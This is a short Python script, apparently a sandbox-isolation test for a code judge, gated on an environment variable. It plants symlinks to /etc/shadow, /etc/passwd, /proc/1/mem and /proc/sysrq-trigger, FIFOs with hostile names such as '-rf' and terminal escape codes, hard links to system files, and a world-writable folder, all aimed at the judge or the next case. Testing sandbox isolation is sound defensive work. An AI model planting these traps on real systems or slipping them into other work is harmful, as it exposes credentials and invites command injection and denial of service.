# plant links, pipes and odd names in its folder for the judge or the next case to follow
import os, sys
if "ATTACK_IN_SANDBOX" not in os.environ:
    sys.exit("only in the sandbox")


def names(folder):
    try:
        return os.listdir(folder)
    except OSError:
        return []


import socket
found = [f"{d}/{n}" for d in (".", "/tmp", "/dev/shm") if os.path.isdir(d) for n in names(d)]
if found:
    print("BREACH left from the case before", found)
for name, target in (("artifact", "/etc/shadow"), ("output", "/etc/passwd"), ("stdout", "/dev/full"), ("loop", "loop"),
                     ("input", "/proc/1/mem"), ("up", "../../../.."), ("core", "/proc/sysrq-trigger")):
    try:
        os.symlink(target, name)
    except OSError:
        pass
for name in ("pipe", "-rf", "a\nb", "\x1b[2J", "con", "x" * 255, "..."):
    try:
        os.mkfifo(name)
    except OSError:
        pass
for source in ("/usr/bin/env", __file__, "/proc/self/exe", "/hosts/python_host.py"):
    try:
        os.link(source, "hard" + str(len(source)))
        print("BREACH hard link to", source)
    except OSError:
        pass
try:
    os.chmod(".", 0o777)
except OSError:
    pass
print("DONE")
